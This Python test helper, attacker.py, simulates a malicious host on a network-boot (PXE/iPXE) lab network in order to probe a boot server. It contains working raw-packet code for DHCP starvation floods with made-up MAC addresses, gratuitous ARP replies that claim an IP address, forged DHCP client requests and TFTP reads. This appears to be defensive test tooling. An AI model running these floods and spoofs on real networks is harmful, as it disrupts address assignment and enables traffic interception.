"""Malware on a host, as far as the boot network sees it. Prints what it got, as JSON.

attacker.py ask URL [METHOD]     tftp NAME     flood OWN_MAC made-up|own COUNT     arp OWN_MAC IP
attacker.py request OWN_MAC IP TRANSACTION ipxe|uefi|other TIMES
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable

SERVER = "10.99.0.1"
IPXE = b"\x4d\4iPXE\xaf\0"
"""Its user class, and its own options."""
HANG = 120
"""Seconds: whoever has not answered by then never will. As in tests/waiting.py; nothing is imported
here but Python's own, as this is started many times."""
BROADCAST = 6 * b"\xff"


def ask(url: str, method: str = "GET") -> dict[str, object]:
    request = urllib.request.Request(url, method=method, data=b"{}" if method == "POST" else None)
    try:
        with urllib.request.urlopen(request, timeout=HANG) as answer:
            return {"status": answer.status, "text": answer.read().decode()}
    except urllib.error.HTTPError as error:
        return {"status": error.code, "text": error.read().decode()}


def tftp(name: str) -> dict[str, object]:
    """Read a file (RFC 1350); opcode 3 is data, 5 an error."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(3)
        peer.sendto(b"\0\1" + name.encode() + b"\0octet\0", (SERVER, 69))
        try:
            answer = peer.recv(1024)
        except TimeoutError:
            return {"opcode": 0, "text": ""}
    return {"opcode": answer[1], "text": answer[4:].decode(errors="replace")}


def discover(chaddr: bytes, source: bytes) -> bytes:
    """Return a frame with a DHCPDISCOVER of iPXE (RFC 2131)."""
    return dhcp(chaddr, source, os.urandom(4), b"\x35\1\1" + IPXE)


def dhcp(chaddr: bytes, source: bytes, number: bytes, options: bytes) -> bytes:
    """Return a frame with a DHCP request, its transaction's number, and options."""
    bootp = struct.pack("!BBBB4sHH16s16s192x", 1, 1, 6, 0, number, 0, 0x8000, b"", chaddr)
    payload = (bootp + bytes.fromhex("63825363") + options + b"\xff").ljust(300, b"\0")
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    size, anyone = 20 + len(udp), 4 * b"\xff"
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, size, 0, 0, 64, 17, 0, bytes(4), anyone)
    total = sum(struct.unpack("!10H", head))
    total = (total >> 16) + (total & 0xFFFF)
    head = head[:10] + struct.pack("!H", ~total & 0xFFFF) + head[12:]
    return BROADCAST + source + b"\x08\0" + head + udp


def flood(own: str, how: str, count: str) -> dict[str, object]:
    mac = bytes.fromhex(own.replace(":", ""))
    offers = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as wire:
        wire.bind(("eth0", 0x0800))
        wire.setblocking(False)
        for number in range(int(count)):
            chaddr = mac if how == "own" else b"\x02" + os.urandom(5)
            wire.send(discover(chaddr, mac))
            if number % 10 == 0:
                time.sleep(0.05)
            try:
                while frame := wire.recv(2048):
                    offers += frame[6:12] != mac and frame[23] == 17 and frame[36:38] == b"\0\x44"
            except BlockingIOError:
                pass
    return {"offers": offers}


def request(own: str, address: str, number: str, who: str, times: str) -> dict[str, object]:
    """Ask for an address, as iPXE, UEFI or another; return the boot files that answers name."""
    mac = bytes.fromhex(own.replace(":", ""))
    options = b"\x35\1\3\x32\4" + socket.inet_aton(address) + b"\x37\2\x42\x43"
    options += {"ipxe": IPXE, "uefi": b"\x5d\2\0\7"}.get(who, b"")
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as wire:
        wire.bind(("eth0", 0x0800))
        wire.settimeout(HANG)
        return {"files": [_file(wire, mac, number, options) for _ in range(int(times))]}


def _file(wire: socket.socket, mac: bytes, number: str, options: bytes) -> str | None:
    """Send one request; return the boot file that its answer names, None if there is no answer."""
    wire.send(dhcp(mac, mac, bytes.fromhex(number), options))
    while True:
        try:
            frame = wire.recv(2048)
        except TimeoutError:
            return None
        if frame[34:38] == b"\0\x43\0\x44" and frame[46:50] == bytes.fromhex(number):
            return frame[42 + 108 : 42 + 236].split(b"\0")[0].decode()


def arp(own: str, address: str) -> dict[str, object]:
    """Tell everyone that an address is ours now (RFC 826)."""
    mac, ip = bytes.fromhex(own.replace(":", "")), socket.inet_aton(address)
    reply = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, ip, BROADCAST, ip)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as wire:
        wire.bind(("eth0", 0x0806))
        for _ in range(3):
            wire.send(BROADCAST + mac + b"\x08\x06" + reply)
            time.sleep(0.6)
    return {}


def main() -> None:
    verb, *words = sys.argv[1:]
    verbs: dict[str, Callable[..., object]] = {
        "ask": ask, "tftp": tftp, "flood": flood, "arp": arp, "request": request,
    }  # fmt: skip
    sys.stdout.write(json.dumps(verbs[verb](*words)))


if __name__ == "__main__":
    main()
